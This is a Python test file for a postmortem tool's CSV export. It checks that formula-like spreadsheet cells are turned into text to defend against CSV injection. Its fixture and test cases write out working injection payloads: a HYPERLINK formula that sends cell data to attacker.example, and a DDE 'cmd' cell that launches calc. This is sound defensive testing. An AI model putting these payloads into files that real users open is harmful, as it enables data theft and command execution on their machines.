"""Issue 18: a CSV attachment leaves Debrief (export zip, download) with its formula-like cells turned
into text (OWASP CSV injection), while the stored file and the JSON copy stay as uploaded."""

from __future__ import annotations

import base64
import csv
import io
import json
import zipfile

import pytest

from exports.render import render, render_all
from postmortem.evidence import accept
from postmortem.evidence.spreadsheet import for_download, neutralised, safe_cell
from postmortem.models import AttachedTo
from tests.test_evidence_storage import attach

HOSTILE = (
    b'time,host,note\n12:01,web-1,"=HYPERLINK(""http://attacker.example/?d=""&A1,""Open"")"\n'
    b"12:02,web-2,+cmd|' /C calc'!A0\n12:03,web-3,@SUM(1+1)\n12:04,-5,-2+3\n"
)


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ('=HYPERLINK("http://x.example","y")', '\'=HYPERLINK("http://x.example","y")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "-5"),  # a negative number is evidence, not a formula
        ("+3.25", "+3.25"),
        ("-1.5e3", "-1.5e3"),
        ("error rate 4%", "error rate 4%"),
        ("", ""),
    ],
)
def test_a_formula_like_cell_becomes_text_and_a_number_stays(cell, shown):
    assert safe_cell(cell) == shown


def _rows(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=delimiter))


def test_every_cell_of_a_hostile_csv_reads_back_as_text():
    rows = _rows(neutralised(HOSTILE))
    assert rows[0] == ["time", "host", "note"]
    assert rows[1][2] == '\'=HYPERLINK("http://attacker.example/?d="&A1,"Open")'
    assert rows[2][2].startswith("'+cmd") and rows[3][2] == "'@SUM(1+1)"
    assert rows[4] == ["12:04", "-5", "'-2+3"]
    assert not any(c.startswith(("=", "+", "-", "@")) and c != "-5" for row in rows for c in row)


def test_a_semicolon_csv_keeps_its_delimiter():
    rows = _rows(neutralised(b"a;b\n1;=1+1\n2;3\n"), ";")
    assert rows == [["a", "b"], ["1", "'=1+1"], ["2", "3"]]


def test_only_csv_is_changed_on_the_way_out():
    log = b"=this is a log line, not a spreadsheet\n"
    assert for_download(log, "text/plain") == log
    assert for_download(b"a,b\n=1,2\n", "text/csv") == b"a,b\n'=1,2\n"


@pytest.fixture
def with_csv(doc):
    kept = accept(HOSTILE, "errors.csv")
    assert kept.media_type.value == "text/csv"
    attached = attach(
        doc, kept, target=AttachedTo.EVENT, target_id=doc.timeline[0].id, caption="Error counts per host"
    )
    return attached, {kept.digest: kept.data}


def test_the_export_zip_holds_the_csv_neutralised(with_csv):
    doc, blobs = with_csv
    with zipfile.ZipFile(io.BytesIO(render_all(doc, audiences=["team"], blobs=blobs, country="US"))) as z:
        written = z.read("attachments/errors.csv")
    assert b"'=HYPERLINK(" in written and b",=HYPERLINK" not in written and b'"=HYPERLINK' not in written


def test_the_json_export_carries_the_csv_as_stored_so_an_import_gets_it_back(with_csv):
    doc, blobs = with_csv
    carried = json.loads(render(doc, "team", "json", blobs=blobs, country="US"))["attachment_files"]
    assert [base64.b64decode(v) for v in carried.values()] == list(blobs.values())
